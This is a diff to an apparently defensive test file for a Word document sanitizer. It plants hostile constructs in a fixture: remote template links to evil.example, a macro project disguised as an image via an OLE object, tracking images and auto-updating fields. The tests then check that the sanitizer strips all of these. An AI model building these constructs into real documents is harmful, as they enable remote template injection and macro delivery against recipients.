@@ -31,6 +31,15 @@ HOSTILE_HEADER_RUNS = (
     '<w:r><w:t>Included text</w:t></w:r></w:fldSimple>'
     '<w:r><w:t xml:space="preserve"> Page </w:t></w:r>'
     '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
+    # the page count as Word writes it: begin / instruction / separate / result / end
+    '<w:r><w:t xml:space="preserve"> of </w:t></w:r>'
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
+    'NUMPAGES \\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
+    '</w:r><w:r><w:t>7</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    # an "image" that is really the macro project, drawn as a VML OLE object
+    f'<w:r><w:pict {OLE}><v:shape id="_x2"><v:imagedata r:id="rIdFake" o:title="x"/></v:shape>'
+    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x2" DrawAspect="Icon" ObjectID="_2" '
+    'r:id="rIdFake"/></w:pict></w:r>'
     # hyperlinks: javascript is dropped (its text stays), https stays
     '<w:hyperlink r:id="rIdJs"><w:r><w:t>Click me</w:t></w:r></w:hyperlink>'
     '<w:hyperlink r:id="rIdWeb"><w:r><w:t>Our site</w:t></w:r></w:hyperlink>'
@@ -55,13 +64,17 @@ HEADER_RELS = (
     f'<Relationship Id="rIdAx" Type="{REL}control" Target="activeX/activeX1.xml"/>'
     f'<Relationship Id="rIdTrack" Type="{REL}image" Target="http://evil.example/track.png" '
     'TargetMode="External"/>'
+    f'<Relationship Id="rIdFake" Type="{REL}image" Target="vbaProject.bin"/>'
 )
 SETTINGS = ('<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/>'
             '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
             '<w:updateFields w:val="true"/>'
             '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
             '<w:dataSource r:id="rIdData"/></w:mailMerge>'
-            '<w:docVars><w:docVar w:name="payload" w:val="x"/></w:docVars>')
+            '<w:docVars><w:docVar w:name="payload" w:val="x"/></w:docVars>'
+            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-'
+            'compatibility/2006"><mc:Choice Requires="w14"><w:updateFields w:val="true"/>'
+            '</mc:Choice></mc:AlternateContent>')
 SETTINGS_RELS = (
     f'<Relationship Id="rIdTpl" Type="{REL}attachedTemplate" '
     'Target="http://evil.example/normal.dotm" TargetMode="External"/>'
@@ -73,6 +86,11 @@ DOCUMENT_RELS = (
     f'<Relationship Id="rIdCx" Type="{REL}customXml" Target="../customXml/item9.xml"/>'
     f'<Relationship Id="rIdChunk" Type="{REL}aFChunk" Target="http://evil.example/chunk.html" '
     'TargetMode="External"/>')
+STYLES_RELS = (  # parts nobody expects to carry relationships
+    f'<Relationship Id="rIdS1" Type="{REL}attachedTemplate" '
+    'Target="http://evil.example/styles.dotm" TargetMode="External"/>'
+    f'<Relationship Id="rIdS2" Type="http://schemas.microsoft.com/office/2006/relationships/'
+    'vbaProject" Target="vbaProject.bin"/>')
 EXTRA_PARTS = {
     "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really a macro project",
     "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 an OLE package",
@@ -85,6 +103,11 @@ CONTENT_TYPES = (
     'vbaProject"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-'
     'officedocument.oleObject"/><Override PartName="/word/activeX/activeX1.xml" ContentType='
     '"application/vnd.ms-office.activeX+xml"/>')
+
+
+def _rels(body: str) -> str:
+    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
+            f'schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>')
 
 
 def _hostile_reference() -> bytes:
@@ -119,6 +142,7 @@ def _hostile_reference() -> bytes:
             elif item.filename == "[Content_Types].xml":
                 data = data.replace("</Types>", CONTENT_TYPES + "</Types>")
             target.writestr(item.filename, data)
+        target.writestr("word/_rels/styles.xml.rels", _rels(STYLES_RELS))
         target.writestr("word/_rels/settings.xml.rels",
                         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
@@ -171,9 +195,10 @@ def test_no_active_or_remote_content_survives(built):
     text = "".join(data.decode() for name, data in package.items()
                    if re.match(r"word/(header|footer)\d*\.xml$", name))
     for planted in ("DDEAUTO", "INCLUDETEXT", "w:object", "OLEObject", "w:control", "r:link",
-                    "javascript"):
+                    "javascript", "v:imagedata"):
         assert planted not in text, planted
     assert b"vbaProject" not in package["[Content_Types].xml"]
+    assert b"evil.example" not in b"".join(package.values())
 
 
 def test_the_letterhead_itself_survives(built):
@@ -184,7 +209,8 @@ def test_the_letterhead_itself_survives(built):
         "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}t"))
     for kept in ("ACME Letterhead", "Shown result", "Included text", "Click me", "Our site"):
         assert kept in text, kept
-    assert re.search(r'w:instr="\s*PAGE\s*"', xml)  # the page field still counts pages
+    assert re.search(r'w:instr="\s*PAGE\s*"', xml)  # the page fields still count pages
+    assert re.search(r"<w:instrText[^>]*> NUMPAGES", xml)
     embeds = re.findall(r'r:embed="([^"]+)"', xml)
     assert len(embeds) == 1 and header.part.related_parts[embeds[0]].blob[:4] == b"\x89PNG"
     web = [rel for rel in header.part.rels.values() if rel.is_external]
